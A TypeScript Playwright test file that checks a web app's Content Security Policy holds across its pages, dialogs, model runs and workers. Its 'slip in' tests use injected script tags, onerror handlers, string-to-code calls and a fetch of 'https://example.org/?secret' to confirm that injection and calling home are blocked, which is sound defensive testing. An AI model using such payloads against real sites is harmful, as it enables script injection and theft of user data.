/** What the built page's policy forbids is forbidden, on the page and in its workers, and nothing it does is. */
import type { Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { PAGE_TITLES, type PageId } from '@/app/pages/pages';
import { withPage, type AppPage } from '../support';
import { ready } from '../explore/stage';
import { host, visit } from './support';

const record = (): void => {
  const violations: string[] = [];
  Object.assign(window, { violations });
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile, lineNumber }) => {
    violations.push(`${effectiveDirective}: ${blockedURI} (${sourceFile}:${lineNumber})`);
  });
};
const violations = (page: Page): Promise<string[]> => page.evaluate(() => (window as unknown as { violations: string[] }).violations);

/** What comes of an attempt on the page: its value, or the name of the error. */
const attempt = (page: Page, what: () => unknown): Promise<unknown> =>
  page.evaluate(`(async () => { try { return await (${what.toString()})(); } catch (cause) { return cause.name; } })()`);

async function run({ page }: AppPage): Promise<void> {
  await ready(page);
  await page.keyboard.press('r');
  await page.getByText('measured here').waitFor({ timeout: 100_000 });
  await page.getByRole('button', { name: 'Run this request' }).waitFor({ timeout: 100_000 });
}

describe('nothing the app does is against its policy', () => {
  it.each(Object.keys(PAGE_TITLES) as PageId[])('the page %s', (id) =>
    withPage({ reducedMotion: true, path: `?page=${id}`, initScript: record }, async ({ page }) => {
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.waitForLoadState('networkidle');
      expect(await violations(page)).toEqual([]);
    }));

  it('the dialogs, menus and tooltips', () =>
    withPage({ reducedMotion: true, initScript: record }, async ({ page }) => {
      await ready(page);
      for (const key of ['m', 'Shift+?', 'Control+k']) {
        await page.keyboard.press(key);
        await page.getByRole('dialog').waitFor();
        await page.keyboard.press('Escape');
        await page.getByRole('dialog').waitFor({ state: 'hidden' });
      }
      await page.getByRole('combobox').first().click();
      await page.keyboard.press('Escape');
      expect(await violations(page)).toEqual([]);
    }));

  it.each([['wasm', 4], ['webgpu', 2]])('a run on %s', (device, tokens) =>
    withPage({ reducedMotion: true, path: `?max=${tokens}&device=${device}`, initScript: record }, async (app) => {
      await run(app);
      expect(await violations(app.page)).toEqual([]);
    }));

  it('keeping the app offline, and running it without isolation', async () => {
    const server = await host(inject('appFolder'));
    try {
      await visit(`${server.url}?max=3`, async ({ page, faults }) => {
        await ready(page);
        await page.keyboard.press('m');
        await page.getByText('Everything here works offline').waitFor({ timeout: 90_000 });
        await page.reload();
        await ready(page);
        expect(await violations(page)).toEqual([]);
        expect(faults).toEqual([]);
      }, { initScript: record });
    } finally {
      await server.close();
    }
  });
});

describe('what somebody might slip in', () => {
  const ALLOW = [/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type/, /another host/];

  it('does not run: a script or a handler in the page’s markup', () =>
    withPage({ path: null, allow: [...ALLOW, /icons\/none\.png/] }, async ({ page, context, url }) => {
      await context.route(url, async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace('<div id="root">', '<script>window.slipped = "script"</script><img src="icons/none.png" onerror="window.slipped = \'handler\'"><div id="root">');
        await route.fulfill({ response, body });
      });
      const failed = page.waitForResponse(/none\.png/);
      await page.goto(url);
      await failed;
      await ready(page);
      expect(await page.evaluate(() => (window as { slipped?: string }).slipped)).toBeUndefined();
    }));

  it('does not run: code made from a string, markup made from a string, a worker from elsewhere', () =>
    withPage({ allow: ALLOW, initScript: record }, async ({ page }) => {
      await ready(page);
      const markup = await attempt(page, () => {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.slipped = 1">');
        return 'inserted';
      });
      expect(markup).toBe('TypeError');
      const worker = await attempt(page, () => new Worker('https://example.org/worker.js').constructor.name);
      expect(worker).toBe('TypeError');
      const blob = await attempt(page, () => new Worker(URL.createObjectURL(new Blob(['0']))).constructor.name);
      expect(blob).toBe('TypeError');
      // A timer's text is compiled by the page, not by the debugger's own rules.
      expect(await attempt(page, () => setTimeout('window.slipped = 2' as unknown as () => void, 0))).toBe('TypeError');
      expect(await page.evaluate(() => (window as { slipped?: number }).slipped)).toBeUndefined();
    }));

  it('cannot call home, from the page or from the model’s worker; on a host without headers too', async () => {
    const server = await host(inject('appFolder'));
    try {
      await visit(`${server.url}?max=2`, async (app) => {
        const { page, context } = app;
        await run({ ...app, url: server.url });
        const asked: string[] = [];
        context.on('request', (request) => asked.push(request.url()));
        const call = (): Promise<string> => fetch('https://example.org/?secret', { mode: 'no-cors' }).then(() => 'reached', (cause: Error) => cause.name);
        expect(await page.evaluate(call)).toBe('TypeError');
        expect((await violations(page)).filter((violation) => violation.startsWith('connect-src: https://example.org'))).toHaveLength(1);
        const workers = page.workers().filter((worker) => worker.url().startsWith('blob:'));
        expect(workers.length).toBeGreaterThan(0);
        for (const worker of workers) {
          const heard = await worker.evaluate(async () => {
            const directive = new Promise<string>((resolve) => self.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true }));
            await fetch('https://example.org/?secret', { mode: 'no-cors' }).catch(() => undefined);
            return directive;
          });
          expect(heard).toBe('connect-src');
        }
        expect(asked.filter((url) => url.includes('example.org'))).toEqual([]);
      }, { initScript: record });
    } finally {
      await server.close();
    }
  });
});
